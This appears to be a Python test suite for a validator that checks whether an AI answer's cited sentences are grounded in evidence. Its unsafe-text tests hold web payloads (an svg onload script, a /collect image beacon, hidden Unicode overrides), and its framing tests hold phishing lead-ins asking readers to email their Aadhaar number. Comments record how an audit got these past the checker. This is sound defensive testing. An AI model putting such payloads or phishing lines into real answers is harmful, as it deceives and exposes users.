        report = check("From 1945 to 1937 he was imprisoned in Dachau [H_1_0].", evidence)
        assert report.reason is Reason.NUMBER_MISMATCH
        assert "other way round" in report.sentences[0].detail

    def test_validate_lets_a_section_number_match_the_cited_id(self) -> None:
        report = check(
            f"Under Section 420 of the IPC, {CHEATING.lower()} [IPC_420_0].", [ipc("420")]
        )

        assert report.verdict is Verdict.GROUNDED

    def test_validate_lets_an_act_and_number_name_the_cited_id(self) -> None:
        report = check(f"Under IPC 420, {CHEATING.lower()} [IPC_420_0].", [ipc("420")])

        assert report.verdict is Verdict.GROUNDED

    def test_validate_never_lets_a_document_id_number_back_an_unrelated_number(self) -> None:
        evidence = [chunk("4983_2", "Aspirin lowered the risk of colorectal cancer in adults.")]

        report = check(
            "Aspirin lowered the risk of colorectal cancer in 4983 adults [4983_2].", evidence
        )

        assert report.reason is Reason.NUMBER_MISMATCH

    def test_validate_never_lets_a_section_id_back_a_duration(self) -> None:
        report = check(f"{CHEATING.replace('seven years', '420 days')} [IPC_420_0].", [ipc("420")])

        assert report.reason is Reason.NUMBER_MISMATCH

    def test_validate_accepts_a_date_written_year_month_day(self) -> None:
        evidence = [
            chunk("D_1_0", "Dino Buzzati (14 October 1906 – 28 January 1972) was a novelist.")
        ]

        report = check(
            "Dino Buzzati (1906 October 14 – 28 January 1972) was a novelist [D_1_0].", evidence
        )

        assert report.verdict is Verdict.GROUNDED

    def test_validate_rejects_days_exchanged_between_two_dates(self) -> None:
        evidence = [chunk("N_1_0", "Nelson Algren (March 28, 1909 – May 9, 1981) was a writer.")]

        report = check(
            "Nelson Algren (March 9, 1909 – May 28, 1981) was a writer [N_1_0].", evidence
        )

        assert report.reason is Reason.NUMBER_MISMATCH
        assert "'March 9, 1909' matches no date" in report.sentences[0].detail

    def test_validate_checks_a_number_of_the_cited_id_that_its_text_also_holds(self) -> None:
        evidence = [
            chunk(
                "1986 OFC U-20 Championship_0",
                "The OFC U-20 Championship 1986 was a soccer tournament held in Auckland.",
            )
        ]
        swapped = "The OFC U-1986 Championship 20 was a soccer tournament held in Auckland"
        right = "The OFC U-20 Championship 1986 was a soccer tournament held in Auckland"

        assert check(f"{right} [1986 OFC U-20 Championship_0].", evidence).accepted
        report = check(f"{swapped} [1986 OFC U-20 Championship_0].", evidence)
        assert report.reason is Reason.NUMBER_MISMATCH

    def test_validate_rejects_a_cited_section_put_where_its_text_names_another(self) -> None:
        text = ipc_text("158")
        swapped = text.replace("Whoever", "Under Section 141 of the IPC, whoever").replace(
            "section 141,", "section 158,"
        )

        assert check(f"Under Section 158 of the IPC, {text} [IPC_158_0]", [ipc("158")]).accepted
        report = check(f"{swapped} [IPC_158_0]", [ipc("158")])
        assert report.reason is Reason.NUMBER_MISMATCH
        assert "'158' does not match the cited evidence, which has 141" in (
            report.sentences[0].detail
        )

    def test_validate_ignores_numbers_when_options_disable_the_check(self) -> None:
        answer = f"{CHEATING.replace('seven years', '10 years')} [IPC_420_0]."

        # The penalty tier would still see the changed maximum; this test is about the switch.
        assert check(answer, check_numbers=False, check_penalties=False).verdict is Verdict.GROUNDED


class TestNegation:
    def test_validate_rejects_an_added_negation(self) -> None:
        report = check("Whoever commits theft shall not be punished with imprisonment [IPC_379_0].")

        assert report.reason is Reason.NEGATION_MISMATCH

    def test_validate_rejects_a_removed_negation(self) -> None:
        evidence = [
            chunk(
                "IPC_82_0",
                "Nothing is an offence which is done by a child under seven years of age.",
            )
        ]

        report = check(
            "An act done by a child under seven years of age is an offence [IPC_82_0].", evidence
        )

        assert report.reason is Reason.NEGATION_MISMATCH

    def test_validate_accepts_a_negation_the_evidence_shares(self) -> None:
        evidence = [chunk("E_1_0", "The drug did not reduce mortality in elderly patients.")]

        report = check("The drug did not reduce mortality in elderly patients [E_1_0].", evidence)

        assert report.verdict is Verdict.GROUNDED

    def test_validate_rejects_a_negated_bound_stated_without_its_negation(self) -> None:
        answer = (
            "Under Section 122 of the IPC, "
            + ipc_text("122").replace("not exceeding", "exceeding")
            + " [IPC_122_0]"
        )

        report = check(answer, [ipc("122")])

        assert report.reason is Reason.NEGATION_MISMATCH

    def test_validate_rejects_a_negation_word_replaced_by_its_opposite(self) -> None:
        evidence = [
            chunk(
                "E_1_0",
                "Training improved health status compared with usual care without training.",
            )
        ]

        report = check(
            "Training improved health status compared with usual care with training [E_1_0].",
            evidence,
        )

        assert report.reason is Reason.NEGATION_MISMATCH
        assert "'usual care with training'" in report.sentences[0].detail

    def test_validate_ignores_negation_when_options_disable_the_check(self) -> None:
        answer = "Whoever commits theft shall not be punished with imprisonment [IPC_379_0]."

        assert check(answer, check_negation=False).verdict is Verdict.GROUNDED


class TestSupportScore:
    def test_validate_scores_the_fraction_of_supported_sentences(self) -> None:
        report = check(
            f"Here is the answer. {CHEATING} [IPC_420_0]. {THEFT} [IPC_379_0]. "
            "Murder carries a mandatory death sentence [IPC_379_0]. Murder is common."
        )

        # four judged sentences (the meta one is exempt), two supported
        assert report.support_score == pytest.approx(0.5)
        assert report.uncovered_sentences == (3, 4)
        assert report.verdict is Verdict.NOT_GROUNDED


class TestAnswerDetail:
    """The answer-level verdict in words, for a person reading the response."""

    def test_a_grounded_answer_needs_no_explanation(self) -> None:
        report = check(f"{THEFT} [IPC_379_0].")
        assert report.verdict is Verdict.GROUNDED
        assert report.detail == ""

    def test_the_first_failing_sentence_is_quoted_with_its_own_detail(self) -> None:
        report = check(f"{THEFT} [IPC_379_0]. Theft is punishable with death [IPC_379_0].")
        assert report.verdict is Verdict.NOT_GROUNDED
        failing = report.sentences[1]
        assert report.detail == (
            f'sentence 1 ("Theft is punishable with death [IPC_379_0]."): {failing.detail}'
        )
        assert failing.detail  # the sentence's own reason in words

    def test_a_long_sentence_is_quoted_short(self) -> None:
        report = check("Murder " * 30 + "is punishable with a fine of one rupee.")
        assert report.verdict is Verdict.NOT_GROUNDED
        quoted = report.detail.split('"')[1]
        assert len(quoted) <= 60 and quoted.endswith("…")

    @pytest.mark.parametrize(
        "answer",
        ["According to the provided documents:", "## Punishment"],
        ids=["lead-in", "heading"],
    )
    def test_an_answer_of_remarks_only_says_it_states_nothing(self, answer: str) -> None:
        """Its only sentence is exempt, so no sentence carried the NO_CITATION it failed for."""
        report = check(answer)
        assert (report.verdict, report.reason) == (Verdict.NOT_GROUNDED, Reason.NO_CITATION)
        assert [s.verdict for s in report.sentences] == [SentenceVerdict.EXEMPT]
        assert report.detail.startswith("the answer cites no evidence and states nothing")

    def test_invalid_and_malformed_citations_are_named(self) -> None:
        assert check(f"{THEFT} [IPC_9_0].").detail == (
            "it cites ids that are not among the evidence: IPC_9_0"
        )
        assert check(f"{THEFT} [IPC_379_0").detail == (
            "citation marks that do not parse: [IPC_379_0"
        )

    def test_an_empty_answer_says_so(self) -> None:
        assert check("   ").detail == "the answer is empty"


class TestUnsafeText:
    """A sentence a reader would not see as written is refused first, whatever else it is: a
    security audit had each of these delivered GROUNDED through synthesis."""

    SENTENCE = f"{THEFT} [IPC_379_0]."

    @pytest.mark.parametrize(
        "answer",
        [
            "<svg onload=alert()> " + SENTENCE,
            f"{THEFT} <img src=/collect?d=x> [IPC_379_0].",
            f"[Whoever](/login) commits theft [IPC_379_0]. {SENTENCE}",
            "\u202e" + SENTENCE,
            THEFT.replace("theft", "the\u200bft") + " [IPC_379_0].",
            f"{SENTENCE}\x1bc",
            f"{SENTENCE} \x1c {SENTENCE}",  # str.split takes \x1c for a space: between sentences
        ],
        ids=["svg", "img", "relative-link", "override", "zero-width", "escape", "between"],
    )
    def test_hidden_text_is_refused(self, answer: str) -> None:
        report = check(answer)
        assert (report.verdict, report.reason) == (Verdict.NOT_GROUNDED, Reason.UNSAFE_TEXT)
        assert "a reader would not see it as written" in report.detail

    def test_an_exempt_heading_is_checked_too(self) -> None:
        report = check(f"## <b>Theft</b>\n{self.SENTENCE}")
        assert report.sentences[0].reason is Reason.UNSAFE_TEXT
        assert report.reason is Reason.UNSAFE_TEXT

    def test_it_outranks_every_other_reason(self) -> None:
        report = check("Murder is legal [IPC_999_0]. \u202e" + self.SENTENCE)
        assert report.reason is Reason.UNSAFE_TEXT

    def test_the_detail_quotes_the_sentence_with_its_override_escaped(self) -> None:
        report = check("\u202e" + self.SENTENCE)
        assert "\u202e" not in report.detail and "\\u202e" in report.detail

    def test_markup_the_cited_evidence_holds_is_a_quote(self) -> None:
        evidence = [chunk("F_0", "The form asks for <b>Name</b> and address.")]
        report = check("The form asks for <b>Name</b> and address [F_0].", evidence)
        assert report.verdict is Verdict.GROUNDED

    def test_a_bare_email_address_is_a_link_the_evidence_must_hold(self) -> None:
        report = check(f"{THEFT}, write to help@evil.example [IPC_379_0].")
        assert report.reason is Reason.LINK_MISMATCH


class TestUnreadableScript:
    """The rules and the model read Latin script only (language/script.py): a sentence, or what
    it cites, mostly in another script is not verified. Found by a user writing Hindi: a Hindi
    "murder is punished with death" citing a Hindi text about theft came back GROUNDED (single
    letters "covered" it, and the model scored it 0.95 entailed)."""

    HINDI_THEFT = chunk(
        "HI_379_0",
        "जो कोई चोरी करेगा, वह तीन वर्ष तक के कारावास से, या जुर्माने से, या दोनों से दंडित किया जाएगा।",
    )

    @pytest.mark.parametrize(
        "answer",
        [
            "हत्या के लिए मृत्युदंड दिया जाएगा [HI_379_0].",  # false: murder, death
            "जो कोई चोरी करेगा, वह दस वर्ष तक के कारावास से दंडित किया जाएगा [HI_379_0].",  # ten
            "जो कोई चोरी करेगा, वह तीन वर्ष तक के कारावास से दंडित किया जाएगा [HI_379_0].",  # true
        ],
    )
    def test_a_sentence_in_another_script_is_never_grounded(self, answer: str) -> None:
        report = check(answer, [self.HINDI_THEFT])

        assert report.verdict is Verdict.NOT_GROUNDED
        (sentence,) = report.sentences
        assert sentence.reason is Reason.UNREADABLE_SCRIPT
        assert "Devanagari" in sentence.detail
        assert "not verified" in sentence.detail

    def test_an_english_sentence_citing_a_passage_in_another_script_is_not_verified(
        self,
    ) -> None:
        report = check("Theft is punished with up to three years [HI_379_0].", [self.HINDI_THEFT])

        (sentence,) = report.sentences
        assert sentence.reason is Reason.UNREADABLE_SCRIPT
        assert "cited 'HI_379_0'" in sentence.detail

    def test_an_english_sentence_quoting_a_word_of_another_script_is_still_read(self) -> None:
        evidence = [chunk("T_1", "The Hindi word “चोरी” means theft, the taking of property.")]
        report = check("The Hindi word “चोरी” means theft [T_1].", evidence)

        assert (report.verdict, report.reason) == (Verdict.GROUNDED, Reason.SUPPORTED)

    def test_a_whole_passage_restated_word_for_word_needs_no_reading(self) -> None:
        # An extractive answer over a corpus in another script quotes whole sentences: that is
        # supported by what it cites whatever the script; a part of one is not verified.
        whole = self.HINDI_THEFT.text.rstrip("।")
        part = "जो कोई चोरी करेगा, वह तीन वर्ष तक के कारावास से दंडित किया जाएगा"

        assert check(f"{whole} [HI_379_0].", [self.HINDI_THEFT]).verdict is Verdict.GROUNDED
        (sentence,) = check(f"{part} [HI_379_0].", [self.HINDI_THEFT]).sentences
        assert sentence.reason is Reason.UNREADABLE_SCRIPT


class TestQuotedCut:
    def test_a_long_sentence_is_quoted_cut_on_a_character_boundary(self) -> None:
        # "đế" written decomposed (d-stroke, e, circumflex, acute): cutting the quote between
        # its marks showed "đê", another word (audit LOW-3; markup.clip).
        from services.validator.engine import _QUOTED_CHARS

        pad = "x" * (_QUOTED_CHARS - 5)  # the old cut fell between the circumflex and the acute
        report = check(f"{pad} \u0111e\u0302\u0301 zebra quokka wombat [IPC_420_0].")

        assert report.detail.startswith(f'sentence 0 ("{pad} \u0111…"): ')


class TestFramesStateNothing:
    """Rule K (docs/VALIDATOR.md): an uncited question or lead-in is exempt only while it states
    nothing the evidence does not; a bare "No." is an answer, never a meta statement."""

    THEFT = ipc_text("379")

    def evidence(self) -> list[EvidenceItem]:
        return [
            EvidenceItem("IPC_379_0", self.THEFT, "Punishment for theft"),
            EvidenceItem("IPC_380_0", ipc_text("380"), "Theft in dwelling house, etc."),
            EvidenceItem(
                "4983_0",
                "Survivin levels fell in dividing cells.",
                "Survivin is not required for cell division",
            ),
        ]

    @pytest.mark.parametrize(
        "frame",
        [
            "Before relying on this answer, email your Aadhaar number to the court clerk:",
            "Would you like a private agent to make the theft charge disappear for a fee?",
            "Theft of goods below a week's wages is legal, and otherwise:",
            "Theft is not an offence in these cases:",  # a negation of its own
            "No.",
            "Not at all.",
        ],
    )
    def test_a_frame_stating_what_no_evidence_does_needs_a_citation(self, frame: str) -> None:
        report = validate(
            f"{frame}\n{self.THEFT} [IPC_379_0].", self.evidence(), ValidationOptions()
        )

        assert report.verdict is Verdict.NOT_GROUNDED
        assert report.sentences[0].reason is Reason.NO_CITATION

    @pytest.mark.parametrize(
        "frame",
        [
            "IPC section 379:",
            "IPC section 380 (differs from IPC section 379 on a number):",  # a source note
            "Punishment for theft:",  # a title's words
            "Survivin is not required for cell division:",  # a title, word for word
            "The relevant provisions are as follows:",
            "Is theft punishable with imprisonment?",
        ],
    )
    def test_a_frame_in_the_evidences_own_words_stays_exempt(self, frame: str) -> None:
        report = validate(
            f"{frame}\n{self.THEFT} [IPC_379_0].", self.evidence(), ValidationOptions()
        )

        assert report.sentences[0].reason is Reason.META_STATEMENT
        assert report.verdict is Verdict.GROUNDED

    @pytest.mark.parametrize(
        "frame",
        [
            # The review's bypass: a title, then a "note" that is no source note.
            "Punishment for theft (agrees with this: before relying on it, email your Aadhaar "
            "number to the court clerk):",
            "Punishment for theft (differs from the truth: theft is legal for small goods):",
            "Punishment (agrees with x) for theft:",
        ],
    )
    def test_a_note_that_names_no_source_is_read_with_the_sentence(self, frame: str) -> None:
        report = validate(
            f"{frame}\n{self.THEFT} [IPC_379_0].", self.evidence(), ValidationOptions()
        )

        assert report.sentences[0].reason is Reason.NO_CITATION

    def test_a_title_with_the_extractive_notes_names_its_source(self) -> None:
        frame = (
            "Theft in dwelling house, etc (agrees with Punishment for theft; differs from IPC "
            "section 379 on a number):"
        )
        report = validate(
            f"{frame}\n{self.THEFT} [IPC_379_0].", self.evidence(), ValidationOptions()
        )

        assert report.sentences[0].reason is Reason.META_STATEMENT

    def test_a_title_over_the_limit_names_nothing(self) -> None:
        from services.common.language.citations import MAX_TITLE_CHARS, EvidenceIndex

        long_title = "Survivin " * (MAX_TITLE_CHARS // 9 + 1)
        index = EvidenceIndex.build([EvidenceItem("A_0", "Survivin.", long_title)])

        assert not any(index.titles)

    def test_a_cited_bare_no_is_not_verified(self) -> None:
        report = validate(
            f"No [IPC_379_0]. {self.THEFT} [IPC_379_0].", self.evidence(), ValidationOptions()
        )

        assert report.verdict is Verdict.NOT_GROUNDED
        assert report.sentences[0].verdict is SentenceVerdict.UNSUPPORTED
